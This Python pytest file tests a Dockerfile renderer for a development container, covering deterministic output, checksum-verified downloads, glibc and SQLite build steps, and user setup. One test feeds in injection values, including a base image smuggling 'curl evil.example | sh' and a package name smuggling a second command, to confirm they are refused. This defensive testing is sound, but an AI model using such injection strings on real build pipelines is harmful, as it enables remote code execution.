from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import dockerfile
import pytest

from aishellc.config.model import Config, SqliteSource
from aishellc.emit.foundation import (
    ENTRYPOINT,
    SQLITE_OPTIONS,
    FoundationFiles,
    glibc_floor_check,
    render_foundation,
    sqlite_build_script,
)
from tests.unit.test_config import full_config, no_downloads
from tests.unit.tomltext import dumps

REPO = Path(__file__).resolve().parents[2]


def _tool_path(name: str) -> str | None:
    beside_python = Path(sys.executable).parent / name
    if beside_python.exists():
        return str(beside_python)
    return shutil.which(name)


HADOLINT = _tool_path("hadolint")
SHELLCHECK = shutil.which("shellcheck")


def config_of(data: dict[str, Any]) -> Config:
    return Config.from_toml(dumps(data), "aishellc.toml")


CONFIGS = {
    "default": {},
    "gitleaks": {"foundation": {"enable_tools": ["gitleaks"]}},
    "no-downloads": no_downloads(),
    "full": full_config(),
    "minimal": {
        "foundation": {
            "tools": [],
            "sqlite": False,
            "glibc_floor": False,
            "apt_packages": ["gosu"],
            "user": {"name": "dev", "uid": 501, "gid": 20, "sudo": False},
        }
    },
}


@pytest.fixture(params=sorted(CONFIGS))
def rendered(request: pytest.FixtureRequest) -> FoundationFiles:
    return render_foundation(config_of(CONFIGS[request.param]))


def instructions(text: str) -> tuple[Any, ...]:
    return tuple(dockerfile.parse_string(text))


def run_values(text: str) -> list[str]:
    return [i.value[0] for i in instructions(text) if i.cmd == "RUN"]


# --- determinism ---------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(CONFIGS))
def test_same_config_same_bytes(name):
    first = render_foundation(config_of(CONFIGS[name]))
    second = render_foundation(config_of(CONFIGS[name]))
    assert first.dockerfile.encode() == second.dockerfile.encode()
    assert dict(first.files) == dict(second.files)
    assert list(first.files) == sorted(first.files)


_DIGEST_SCRIPT = """
import hashlib
from aishellc.config.model import Config
from aishellc.emit.foundation import render_foundation
r = render_foundation(Config.from_toml('[foundation]\\nenable_tools = ["gitleaks"]\\n'))
h = hashlib.sha256(r.dockerfile.encode())
for name in sorted(r.files):
    h.update(name.encode() + b"\\0" + r.files[name])
print(h.hexdigest())
"""


def test_output_does_not_depend_on_the_process():
    digests = set()
    for seed in ("0", "1", "12345"):
        env = {**os.environ, "PYTHONHASHSEED": seed, "LANG": "C", "TZ": "Pacific/Kiritimati"}
        result = subprocess.run(
            [sys.executable, "-c", _DIGEST_SCRIPT],
            cwd=REPO,
            env=env,
            capture_output=True,
            text=True,
            check=True,
        )
        digests.add(result.stdout.strip())
    assert len(digests) == 1


# --- structure -----------------------------------------------------------------------


def test_default_dockerfile_shape():
    text = render_foundation(Config.default()).dockerfile
    cmds = instructions(text)
    froms = [c.value for c in cmds if c.cmd == "FROM"]
    assert froms == [
        ("node:24-trixie-slim", "AS", "aishell-node"),
        ("debian:trixie-slim", "AS", "aishell-sqlite"),
        ("debian:trixie-slim",),
    ]
    assert ("TARGETARCH",) in [c.value for c in cmds if c.cmd == "ARG"]
    assert cmds[-2].cmd == "ENTRYPOINT" and cmds[-2].value == (ENTRYPOINT,) and cmds[-2].json
    assert cmds[-1].cmd == "CMD" and cmds[-1].value == ("/bin/bash",) and cmds[-1].json
    assert "# syntax" not in text.lower()
    assert "\r" not in text and text.endswith("\n") and not text.endswith("\n\n")


def test_node_is_copied_from_the_node_image():
    cmds = instructions(render_foundation(Config.default()).dockerfile)
    copies = [(c.flags, c.value) for c in cmds if c.cmd == "COPY" and c.flags]
    assert (("--from=aishell-node",), ("/usr/local/bin/node", "/usr/local/bin/node")) in copies
    modules = "/usr/local/lib/node_modules"
    assert (("--from=aishell-node",), (modules, modules)) in copies
    runs = " ".join(run_values(render_foundation(Config.default()).dockerfile))
    assert f"ln -s {modules}/npm/bin/npm-cli.js /usr/local/bin/npm" in runs
    assert f"ln -s {modules}/npm/bin/npx-cli.js /usr/local/bin/npx" in runs


def test_apt_install_is_lean_and_cleaned():
    runs = run_values(render_foundation(config_of(full_config())).dockerfile)
    apt = next(r for r in runs if "apt-get install" in r and "libreadline8 " in r)
    assert apt.startswith("apt-get update")
    assert "apt-get install -y --no-install-recommends" in apt
    assert apt.rstrip().endswith("rm -rf /var/lib/apt/lists/*")
    assert "git=1:2.39.5-0+deb12u3" in apt.split()


@pytest.mark.parametrize(
    ("name", "expect_fd_link"),
    [("default", True), ("no-downloads", False)],
)
def test_fd_symlink_only_with_fd_find(name, expect_fd_link):
    text = render_foundation(config_of(CONFIGS[name])).dockerfile
    assert ("ln -s /usr/bin/fdfind /usr/bin/fd" in text) is expect_fd_link


def test_every_default_download_is_verified_and_multi_arch():
    config = config_of(CONFIGS["gitleaks"])
    text = render_foundation(config).dockerfile
    for tool in config.foundation.active_tools:
        for download in tool.downloads:
            assert f"url='{download.url}'" in text
            assert f"sha256='{download.sha256}'" in text
    runs = [r for r in run_values(text) if "curl -fsSL" in r and "sqlite" not in r]
    assert len(runs) == len(config.foundation.active_tools) == 6
    for run in runs:
        assert 'sha256sum -c "$tmp/download.sha256"' in run
        assert run.index("sha256sum -c") < run.index("install -m 0755")
        if "case " in run:
            assert '"${TARGETARCH:-$(dpkg --print-architecture)}"' in run
            assert "amd64)" in run and "arm64)" in run and "*)" in run and "exit 1" in run
    assert "uname" not in text


@pytest.mark.parametrize(
    ("name", "present"),
    [("default", False), ("gitleaks", True)],
)
def test_gitleaks_is_opt_in(name, present):
    text = render_foundation(config_of(CONFIGS[name])).dockerfile
    assert ("gitleaks_8.30.1_linux_x64.tar.gz" in text) is present


def test_no_downloads_config_downloads_nothing():
    text = render_foundation(config_of(no_downloads())).dockerfile
    assert "curl" not in text and "https://" not in text
    assert "gosu" in " ".join(run_values(text))  # from apt


@pytest.mark.parametrize(
    ("packages", "makes_man1"),
    [
        (["gosu", "openjdk-21-jre-headless"], True),
        (["gosu", "openjdk-17-jre-headless=17.0.15+6-1~deb12u1"], True),
        (["default-jre-headless", "gosu"], True),
        (["gosu", "jq"], False),
    ],
)
def test_a_jre_gets_the_man1_folder_its_postinst_needs(packages: list[str], makes_man1: bool):
    # Found by the e2e build: openjdk-21's postinst fails on a slim image without it.
    data = no_downloads()
    data["foundation"]["apt_packages"] = [*packages, "sudo"]
    apt = next(
        r for r in run_values(render_foundation(config_of(data)).dockerfile) if "apt-get" in r
    )
    words = apt.split()
    assert (words[:5] == ["mkdir", "-p", "/usr/share/man/man1", "&&", "apt-get"]) is makes_man1
    assert (words[0] == "apt-get") is not makes_man1


def test_babashka_is_the_dynamic_build_on_amd64_and_static_on_arm64():
    downloads = {
        d.arch: d.url
        for tool in Config.default().foundation.tools
        if tool.name == "babashka"
        for d in tool.downloads
    }
    release = "https://github.com/babashka/babashka/releases/download/v1.13.220"
    assert downloads == {
        "amd64": f"{release}/babashka-1.13.220-linux-amd64.tar.gz",
        "arm64": f"{release}/babashka-1.13.220-linux-aarch64-static.tar.gz",
    }


# --- glibc floor and SQLite from source ----------------------------------------------


def _glibc_check(floor: str) -> str:
    return next(r for r in run_values(glibc_floor_check(floor)) if "getconf" in r)


def _getconf_stub(tmp_path: Path, version: str) -> dict[str, str]:
    stubs = tmp_path / "stubs"
    stubs.mkdir()
    (stubs / "getconf").write_text(f"#!/bin/sh\necho 'glibc {version}'\n")
    (stubs / "getconf").chmod(0o755)
    return {"PATH": f"{stubs}:/usr/bin:/bin"}


@pytest.mark.skipif(shutil.which("dpkg") is None, reason="the check compares with dpkg")
@pytest.mark.parametrize(
    ("glibc", "floor", "passes"),
    [
        ("2.41", "2.39", True),
        ("2.39", "2.39", True),
        ("2.36", "2.39", False),
        # a string compare would rank 2.4 above 2.39
        ("2.4", "2.39", False),
        ("2.40", "2.4", True),
        ("3.0", "2.39", True),
    ],
)
def test_glibc_floor_check(tmp_path: Path, glibc: str, floor: str, passes: bool):
    result = subprocess.run(
        ["sh", "-c", _glibc_check(floor)],
        env=_getconf_stub(tmp_path, glibc),
        capture_output=True,
        text=True,
        check=False,
    )
    assert (result.returncode == 0) is passes, result.stderr
    if not passes:
        assert result.stderr == (
            f"glibc {glibc} is below the foundation's floor {floor}: use a newer base_image "
            "(debian:trixie-slim has 2.41) or set glibc_floor in [foundation] of aishellc.toml\n"
        )


def test_glibc_floor_is_checked_first_and_only_when_configured():
    default = run_values(render_foundation(Config.default()).dockerfile)
    main_stage = [r for r in default if "getconf GNU_LIBC_VERSION" in r or "apt-get" in r]
    # after the SQLite stage's apt step, before the main stage's one
    assert "getconf" in main_stage[1] and "dpkg --compare-versions" in main_stage[1]
    assert "ge 2.39" in main_stage[1]
    off = render_foundation(config_of({"foundation": {"glibc_floor": False}})).dockerfile
    assert "getconf" not in off


def test_sqlite_is_built_in_its_own_stage_and_shadows_debians():
    text = render_foundation(Config.default()).dockerfile
    cmds = instructions(text)
    copies = [(c.flags, c.value) for c in cmds if c.cmd == "COPY" and c.flags]
    assert (("--from=aishell-sqlite",), ("/staging/usr/local/", "/usr/local/")) in copies
    install = next(r for r in run_values(text) if "ldconfig" in r)
    assert "test \"${shell%% *}\" = '3.53.4'" in install
    for option in SQLITE_OPTIONS:
        assert f" {option} " in install or f" {option};" in install
    main_apt = next(r for r in run_values(text) if "libreadline8t64" in r)
    assert "sqlite3" not in main_apt.split()
    off = render_foundation(config_of({"foundation": {"sqlite": False}})).dockerfile
    assert "sqlite" not in off.lower()


_UNZIP_STUB = """#!/bin/sh
echo "unzip $*" >> "$LOG"
"""


@pytest.mark.parametrize("tamper", [None, "wrong-file"])
def test_sqlite_source_is_verified_before_it_is_unpacked(tmp_path: Path, tamper: str | None):
    fixtures, log, env = _sandbox(tmp_path)
    (tmp_path / "stubs" / "unzip").write_text(_UNZIP_STUB)
    (tmp_path / "stubs" / "unzip").chmod(0o755)
    source = b"PK sqlite source"
    (fixtures / "sqlite-src-3530400.zip").write_bytes(b"PK evil" if tamper else source)
    sqlite = SqliteSource(
        "3.53.4",
        "https://sqlite.org/2026/sqlite-src-3530400.zip",
        hashlib.sha256(source).hexdigest(),
    )
    # Only the download, the check and the unpacking: the build itself needs the sources.
    script = sqlite_build_script(sqlite).split("; \\\n    cp -a")[0]
    script = script.replace("/tmp/", f"{tmp_path}/")
    result = subprocess.run(["sh", "-c", script], env=env, capture_output=True, text=True)
    if tamper:
        assert result.returncode != 0
        assert "FAILED" in result.stdout + result.stderr
        assert not log.exists()
    else:
        assert result.returncode == 0, result.stderr
        zip_path = tmp_path / "sqlite-src.zip"
        assert log.read_text() == f"unzip -q {zip_path} -d {tmp_path}/sqlite-src\n"


def test_user_creation_and_sudo():
    text = render_foundation(Config.default()).dockerfile
    assert "groupadd --gid 1000 developer" in text
    assert "useradd --create-home --shell /bin/bash --uid 1000 --gid 1000 developer" in text
    assert "echo 'developer ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/developer" in text
    minimal = render_foundation(config_of(CONFIGS["minimal"])).dockerfile
    assert "useradd --create-home --shell /bin/bash --uid 501 --gid 20 dev" in minimal
    assert "sudoers" not in minimal


def test_tool_environment_and_writable_dirs():
    text = render_foundation(Config.default()).dockerfile
    env = [c.value for c in instructions(text) if c.cmd == "ENV"]
    assert (
        "BABASHKA_BBIN_BIN_DIR",
        "/usr/local/share/bbin/bin",
        "CLJ_CONFIG",
        "/usr/local/share/clojure-config",
        "DEPS_CLJ_TOOLS_DIR",
        "/usr/local/share/deps.clj/ClojureTools",
        "GITLIBS",
        "/usr/local/share/gitlibs",
        "PATH",
        "/usr/local/share/bbin/bin:${PATH}",
    ) in env
    assert "chown -R 1000:1000" in text
    entrypoint = render_foundation(Config.default()).files["foundation/entrypoint.sh"].decode()
    assert "/usr/local/share/gitlibs" in entrypoint


def test_copied_files_exist_and_are_all_used(rendered: FoundationFiles):
    cmds = instructions(rendered.dockerfile)
    sources = {
        c.value[0] for c in cmds if c.cmd == "COPY" and not any("--from" in f for f in c.flags)
    }
    assert {f"{rendered.context}/{s}" for s in sources} == set(rendered.files)
    modes = {c.value[0]: c.flags for c in cmds if c.cmd == "COPY" and c.value[0] in sources}
    assert modes["entrypoint.sh"] == ("--chmod=0755",)
    assert all(flags == ("--chmod=0644",) for src, flags in modes.items() if src != "entrypoint.sh")


# --- linters and parsers ---------------------------------------------------------------


def test_buildkit_parser_accepts_it(rendered: FoundationFiles):
    cmds = instructions(rendered.dockerfile)
    assert cmds and {c.cmd for c in cmds} <= {
        "FROM",
        "WORKDIR",
        "ARG",
        "ENV",
        "RUN",
        "COPY",
        "ENTRYPOINT",
        "CMD",
    }


@pytest.mark.skipif(HADOLINT is None, reason="hadolint is not installed")
def test_hadolint_reports_no_errors(rendered: FoundationFiles):
    assert HADOLINT is not None
    result = subprocess.run(
        [HADOLINT, "--format", "json", "-"],
        input=rendered.dockerfile,
        capture_output=True,
        text=True,
        check=False,
    )
    findings = json.loads(result.stdout)
    errors = [f for f in findings if f["level"] == "error"]
    assert errors == []
    # The one warning kept: DL3008, apt packages without =version. Debian drops superseded
    # versions from its mirror, so default pins would break builds; users can pin per package.
    assert {f["code"] for f in findings if f["level"] == "warning"} <= {"DL3008"}


def test_every_run_is_valid_posix_shell(rendered: FoundationFiles):
    for script in run_values(rendered.dockerfile):
        result = subprocess.run(
            ["sh", "-n", "-c", script], capture_output=True, text=True, check=False
        )
        assert result.returncode == 0, (script, result.stderr)


def test_entrypoint_is_valid_posix_shell(rendered: FoundationFiles, tmp_path: Path):
    path = tmp_path / "entrypoint.sh"
    path.write_bytes(rendered.files["foundation/entrypoint.sh"])
    assert path.read_text().startswith("#!/bin/sh\n")
    subprocess.run(["sh", "-n", str(path)], check=True)


@pytest.mark.skipif(SHELLCHECK is None, reason="shellcheck is not installed")
@pytest.mark.parametrize(
    "name",
    ["foundation/entrypoint.sh", "foundation/etc-profile"],
)
def test_shell_files_pass_shellcheck(rendered: FoundationFiles, tmp_path: Path, name: str):
    assert SHELLCHECK is not None
    path = tmp_path / "script"
    path.write_bytes(rendered.files[name])
    result = subprocess.run(
        [SHELLCHECK, "-s", "sh", "-e", "SC1090,SC1091", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout


@pytest.mark.skipif(SHELLCHECK is None, reason="shellcheck is not installed")
def test_bash_profile_passes_shellcheck(tmp_path: Path):
    assert SHELLCHECK is not None
    path = tmp_path / "bash.aishell"
    path.write_bytes(render_foundation(Config.default()).files["foundation/bash.aishell"])
    result = subprocess.run(
        [SHELLCHECK, "-s", "bash", "-e", "SC1090,SC1091", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout


@pytest.mark.skipif(shutil.which("setpriv") is None, reason="setpriv is not installed")
def test_entrypoint_as_non_root_just_runs_the_command():
    script = render_foundation(Config.default()).files["foundation/entrypoint.sh"].decode()
    # the script comes on stdin, so the unprivileged user needs no access to any file
    command = ["sh", "-s", "sh", "-c", 'echo "ran as $(id -u) with $#: $1"', "x", "arg one"]
    if os.getuid() == 0:
        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *command]
    result = subprocess.run(command, input=script, capture_output=True, text=True, check=True)
    uid = 65534 if os.getuid() == 0 else os.getuid()
    assert result.stdout == f"ran as {uid} with 1: arg one\n"
    assert result.stderr == ""


# --- values are printed only after validation --------------------------------------------


@pytest.mark.parametrize(
    ("attribute", "value"),
    [
        ("base_image", "debian:12\nRUN curl evil.example | sh"),
        ("node_image", "node:24 AS x"),
        ("apt_packages", ("bash;id",)),
    ],
)
def test_renderer_refuses_values_that_bypassed_validation(attribute, value):
    config = Config.default()
    object.__setattr__(config.foundation, attribute, value)  # simulate a bug elsewhere
    with pytest.raises(ValueError, match="refusing"):
        render_foundation(config)


# --- the generated download steps really verify ---------------------------------------------


_CURL_STUB = """#!/bin/sh
out=''
url=''
while [ $# -gt 0 ]; do
    case "$1" in
        -o) out=$2; shift ;;
        https://*) url=$1 ;;
    esac
    shift
done
cp "$FIXTURES/${url##*/}" "$out"
"""
_INSTALL_STUB = """#!/bin/sh
test -f "$3"
echo "$1 $2 ${3##*/out/} $4 $(tr '\\n' ' ' < "$3")" >> "$LOG"
"""
_DPKG_STUB = """#!/bin/sh
echo arm64
"""
_XT_STUB = """#!/bin/sh
echo "xt stub $*" >> "$LOG"
"""


def _tarball(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o755
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _sandbox(tmp_path: Path) -> tuple[Path, Path, dict[str, str]]:
    stubs = tmp_path / "stubs"
    fixtures = tmp_path / "fixtures"
    stubs.mkdir()
    fixtures.mkdir()
    for name, text in {
        "curl": _CURL_STUB,
        "install": _INSTALL_STUB,
        "dpkg": _DPKG_STUB,
        "xt": _XT_STUB,
    }.items():
        (stubs / name).write_text(text)
        (stubs / name).chmod(0o755)
    log = tmp_path / "log"
    env = {
        "PATH": f"{stubs}:/usr/bin:/bin",
        "FIXTURES": str(fixtures),
        "LOG": str(log),
        "TMPDIR": str(tmp_path),
    }
    return fixtures, log, env


def _tool_config(sha_amd64: str, sha_arm64: str) -> Config:
    data = no_downloads()
    data["foundation"]["apt_packages"] += ["curl"]
    data["foundation"]["tools"] = [
        {
            "name": "xt",
            "version": "2.0.0",
            "kind": "tar.gz",
            "binaries": ["xt", "xtd"],
            "check": ["xt", "--version"],
            "downloads": {
                "amd64": {
                    "url": "https://example.com/xt-amd64.tar.gz",
                    "sha256": sha_amd64,
                    "members": ["xt-x86_64/bin/xt", "xt-x86_64/bin/xtd"],
                },
                "arm64": {
                    "url": "https://example.com/xt-arm64.tar.gz",
                    "sha256": sha_arm64,
                    "members": ["xt-aarch64/bin/xt", "xt-aarch64/bin/xtd"],
                },
            },
        }
    ]
    return config_of(data)


def _download_run(config: Config) -> str:
    return next(r for r in run_values(render_foundation(config).dockerfile) if "curl -fsSL" in r)


@pytest.mark.parametrize(
    ("arch", "expected"),
    [
        (
            "amd64",
            [
                "xt-x86_64/bin/xt /usr/local/bin/xt x86 xt",
                "xt-x86_64/bin/xtd /usr/local/bin/xtd x86 xtd",
            ],
        ),
        (
            "arm64",
            [
                "xt-aarch64/bin/xt /usr/local/bin/xt arm xt",
                "xt-aarch64/bin/xtd /usr/local/bin/xtd arm xtd",
            ],
        ),
        (
            "",
            [
                "xt-aarch64/bin/xt /usr/local/bin/xt arm xt",
                "xt-aarch64/bin/xtd /usr/local/bin/xtd arm xtd",
            ],
        ),
    ],
)
def test_download_step_installs_the_right_members(tmp_path: Path, arch: str, expected: list[str]):
    fixtures, log, env = _sandbox(tmp_path)
    amd = _tarball({"xt-x86_64/bin/xt": b"x86 xt", "xt-x86_64/bin/xtd": b"x86 xtd"})
    arm = _tarball({"xt-aarch64/bin/xt": b"arm xt", "xt-aarch64/bin/xtd": b"arm xtd"})
    (fixtures / "xt-amd64.tar.gz").write_bytes(amd)
    (fixtures / "xt-arm64.tar.gz").write_bytes(arm)
    config = _tool_config(hashlib.sha256(amd).hexdigest(), hashlib.sha256(arm).hexdigest())
    result = subprocess.run(
        ["sh", "-c", _download_run(config)],
        env={**env, "TARGETARCH": arch},
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    lines = log.read_text().splitlines()
    assert lines == [f"-m 0755 {line}" for line in expected] + ["xt stub --version"]
    assert not [p for p in tmp_path.iterdir() if p.name.startswith("tmp.")]  # cleaned up


@pytest.mark.parametrize("tamper", ["wrong-sum", "wrong-file"])
def test_download_step_refuses_a_mismatching_file(tmp_path: Path, tamper: str):
    fixtures, log, env = _sandbox(tmp_path)
    good = _tarball({"xt-x86_64/bin/xt": b"x", "xt-x86_64/bin/xtd": b"y"})
    evil = _tarball({"xt-x86_64/bin/xt": b"evil", "xt-x86_64/bin/xtd": b"evil"})
    (fixtures / "xt-amd64.tar.gz").write_bytes(evil if tamper == "wrong-file" else good)
    sha = hashlib.sha256(good).hexdigest() if tamper == "wrong-file" else "0" * 64
    config = _tool_config(sha, sha)
    result = subprocess.run(
        ["sh", "-c", _download_run(config)],
        env={**env, "TARGETARCH": "amd64"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode != 0
    assert "FAILED" in result.stdout + result.stderr
    assert not log.exists()


def test_download_step_refuses_an_unknown_architecture(tmp_path: Path):
    _fixtures, log, env = _sandbox(tmp_path)
    config = _tool_config("0" * 64, "0" * 64)
    result = subprocess.run(
        ["sh", "-c", _download_run(config)],
        env={**env, "TARGETARCH": "riscv64"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    assert "xt 2.0.0: no download for this architecture" in result.stderr
    assert not log.exists()


def test_single_file_download_for_all_arches(tmp_path: Path):
    fixtures, log, env = _sandbox(tmp_path)
    script = b"#!/bin/sh\necho hi\n"
    (fixtures / "tool.sh").write_bytes(script)
    data = no_downloads()
    data["foundation"]["apt_packages"] += ["curl"]
    data["foundation"]["tools"] = [
        {
            "name": "tool",
            "version": "1.0",
            "kind": "file",
            "binaries": ["tool"],
            "downloads": {
                "all": {
                    "url": "https://example.com/tool.sh",
                    "sha256": hashlib.sha256(script).hexdigest(),
                }
            },
        }
    ]
    run = _download_run(config_of(data))
    assert "case " not in run
    result = subprocess.run(["sh", "-c", run], env=env, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    line = log.read_text().strip()
    assert line.startswith("-m 0755 ") and line.endswith(" /usr/local/bin/tool #!/bin/sh echo hi")
